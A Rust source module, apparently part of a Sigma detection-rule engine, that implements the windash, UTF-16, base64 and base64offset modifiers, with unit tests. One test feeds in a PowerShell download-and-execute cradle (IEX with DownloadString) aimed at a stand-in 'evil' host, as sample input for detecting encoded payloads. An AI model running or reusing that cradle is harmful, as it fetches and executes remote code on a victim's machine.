//! Value transformations of the modifier appendix: `windash`, the UTF-16
//! encodings, `base64` and `base64offset`.

use crate::value::{Piece, SigmaString};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// A value between transformations: text (with wildcards) or, after a
/// UTF-16 encoding, bytes.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Val {
    Text(SigmaString),
    Bytes(Vec<u8>),
}

/// The characters `windash` puts in place of a leading `-` or `/`.
const DASHES: [char; 5] = ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'];

/// More variants than this is a rule error rather than a slow matcher.
const MAX_WINDASH_VARIANTS: usize = 4096;

/// Every form of `s` with each dash or slash that starts a word (a `-` or
/// `/` not preceded by a word character and followed by one) replaced by
/// each of `-`, `/`, en dash, em dash and horizontal bar.
pub(crate) fn windash(s: &SigmaString) -> Result<Vec<SigmaString>, String> {
    let mut variants: Vec<Vec<Piece>> = vec![Vec::new()];
    for piece in &s.pieces {
        let Piece::Lit(text) = piece else {
            variants.iter_mut().for_each(|v| v.push(piece.clone()));
            continue;
        };
        let chars: Vec<char> = text.chars().collect();
        let mut segments: Vec<Vec<String>> = Vec::new();
        let mut current = String::new();
        for (i, &c) in chars.iter().enumerate() {
            let prev_word = i > 0 && is_word(chars[i - 1]);
            let next_word = chars.get(i + 1).is_some_and(|&n| is_word(n));
            if (c == '-' || c == '/') && !prev_word && next_word {
                segments.push(vec![std::mem::take(&mut current)]);
                segments.push(DASHES.iter().map(|d| d.to_string()).collect());
            } else {
                current.push(c);
            }
        }
        segments.push(vec![current]);
        for options in segments {
            if options.len() == 1 {
                for v in &mut variants {
                    v.push(Piece::Lit(options[0].clone()));
                }
                continue;
            }
            if variants.len() * options.len() > MAX_WINDASH_VARIANTS {
                return Err(format!(
                    "'windash' on {:?} gives more than {MAX_WINDASH_VARIANTS} values",
                    s.raw
                ));
            }
            variants = variants
                .into_iter()
                .flat_map(|v| {
                    options.iter().map(move |o| {
                        let mut w = v.clone();
                        w.push(Piece::Lit(o.clone()));
                        w
                    })
                })
                .collect();
        }
    }
    Ok(variants
        .into_iter()
        .map(|pieces| SigmaString::from_pieces(pieces, &s.raw))
        .collect())
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

fn plain_bytes(v: &Val, what: &str) -> Result<Vec<u8>, String> {
    match v {
        Val::Bytes(b) => Ok(b.clone()),
        Val::Text(s) => s.as_plain().map(|t| t.as_bytes().to_vec()).ok_or_else(|| {
            format!(
                "'{what}' cannot encode a value with wildcards ({:?})",
                s.raw
            )
        }),
    }
}

/// UTF-16 little endian, big endian, or little endian after a byte order
/// mark.
pub(crate) fn utf16(v: &Val, big_endian: bool, bom: bool, what: &str) -> Result<Val, String> {
    let bytes = plain_bytes(v, what)?;
    let text = String::from_utf8(bytes).map_err(|_| format!("'{what}' needs text"))?;
    let mut out = Vec::with_capacity(text.len() * 2 + 2);
    if bom {
        out.extend_from_slice(&[0xFF, 0xFE]);
    }
    for unit in text.encode_utf16() {
        let b = if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        };
        out.extend_from_slice(&b);
    }
    Ok(Val::Bytes(out))
}

/// Base64 of the whole value.
pub(crate) fn base64(v: &Val) -> Result<Val, String> {
    let bytes = plain_bytes(v, "base64")?;
    Ok(Val::Text(SigmaString::literal(&STANDARD.encode(bytes))))
}

/// The three forms the value takes inside a Base64 string, depending on its
/// offset modulo 3: the encoding of the value shifted by 0, 1 and 2 bytes,
/// without the characters that depend on the neighbouring bytes.
pub(crate) fn base64offset(v: &Val) -> Result<Vec<Val>, String> {
    let bytes = plain_bytes(v, "base64offset")?;
    let mut out = Vec::new();
    for shift in 0..3usize {
        let mut buf = vec![0u8; shift];
        buf.extend_from_slice(&bytes);
        let encoded = STANDARD.encode(&buf);
        // Characters fully determined by the value: skip those that mix in
        // the shift bytes at the start and the padding at the end.
        let start = [0, 2, 3][shift];
        let end = encoded.len()
            - match (bytes.len() + shift) % 3 {
                0 => 0,
                1 => 3,
                _ => 2,
            };
        if start < end {
            out.push(Val::Text(SigmaString::literal(&encoded[start..end])));
        }
    }
    if out.is_empty() {
        return Err("'base64offset' needs a longer value".into());
    }
    Ok(out)
}

/// The end of a transformation chain: bytes must be text again.
pub(crate) fn into_text(v: Val) -> Result<SigmaString, String> {
    match v {
        Val::Text(s) => Ok(s),
        Val::Bytes(b) => match String::from_utf8(b) {
            Ok(t) => Ok(SigmaString::literal(&t)),
            Err(_) => Err("a UTF-16 value must be Base64-encoded to be matched (add 'base64' or 'base64offset')".into()),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(v: &Val) -> String {
        match v {
            Val::Text(s) => s.as_plain().unwrap().to_string(),
            Val::Bytes(b) => format!("{b:02x?}"),
        }
    }

    #[test]
    fn windash_replaces_only_word_starting_dashes() {
        let vs = windash(&SigmaString::parse(" -enc a-b", false)).unwrap();
        let texts: Vec<String> = vs
            .iter()
            .map(|v| v.as_plain().unwrap().to_string())
            .collect();
        assert_eq!(
            texts,
            vec![
                " -enc a-b",
                " /enc a-b",
                " \u{2013}enc a-b",
                " \u{2014}enc a-b",
                " \u{2015}enc a-b"
            ]
        );
        let two = windash(&SigmaString::parse("-a -b", false)).unwrap();
        assert_eq!(two.len(), 25);
        let none = windash(&SigmaString::parse("a-b", false)).unwrap();
        assert_eq!(none.len(), 1);
        let wild = windash(&SigmaString::parse("*-x*", false)).unwrap();
        assert_eq!(wild.len(), 5);
        assert_eq!(wild[1].pieces[0], Piece::Any);
    }

    #[test]
    fn encodings_table() {
        let t = |s: &str| Val::Text(SigmaString::literal(s));
        assert_eq!(text(&base64(&t("cmd")).unwrap()), "Y21k");
        assert_eq!(
            text(&utf16(&t("cmd"), false, false, "utf16le").unwrap()),
            "[63, 00, 6d, 00, 64, 00]"
        );
        assert_eq!(
            text(&utf16(&t("cmd"), true, false, "utf16be").unwrap()),
            "[00, 63, 00, 6d, 00, 64]"
        );
        assert_eq!(
            text(&utf16(&t("cmd"), false, true, "utf16").unwrap()),
            "[ff, fe, 63, 00, 6d, 00, 64, 00]"
        );
        let wide = utf16(&t("cmd"), false, false, "wide").unwrap();
        assert_eq!(text(&base64(&wide).unwrap()), "YwBtAGQA");
        assert!(base64(&Val::Text(SigmaString::parse("a*", false))).is_err());
    }

    #[test]
    fn base64offset_finds_the_value_at_every_offset() {
        let value = "http://evil";
        let forms: Vec<String> = base64offset(&Val::Text(SigmaString::literal(value)))
            .unwrap()
            .iter()
            .map(text)
            .collect();
        for prefix in [
            "",
            "a",
            "ab",
            "abc",
            "abcd",
            "IEX (New-Object Net.WebClient).DownloadString('",
        ] {
            let encoded = STANDARD.encode(format!("{prefix}{value}/x.ps1"));
            assert!(
                forms.iter().any(|f| encoded.contains(f.as_str())),
                "{prefix:?}: {forms:?} in {encoded}"
            );
        }
        assert_eq!(
            forms,
            vec!["aHR0cDovL2V2aW", "h0dHA6Ly9ldmls", "odHRwOi8vZXZpb"]
        );
    }
}
